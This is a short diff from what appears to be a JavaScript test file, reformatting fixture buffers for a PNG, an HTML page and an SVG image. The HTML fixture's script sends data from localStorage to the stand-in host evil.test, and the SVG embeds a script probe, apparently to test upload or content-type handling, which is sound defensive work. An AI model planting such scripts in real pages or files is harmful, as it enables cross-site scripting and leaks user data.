@@ -24,7 +24,9 @@ const png = Buffer.from(
   'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg==',
   'base64',
 );
-const html = Buffer.from('<html><script>fetch("//evil.test/?t="+localStorage.length)</script></html>');
+const html = Buffer.from(
+  '<html><script>fetch("//evil.test/?t="+localStorage.length)</script></html>',
+);
 const svg = Buffer.from(
   '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(document.domain)</script></svg>',
 );
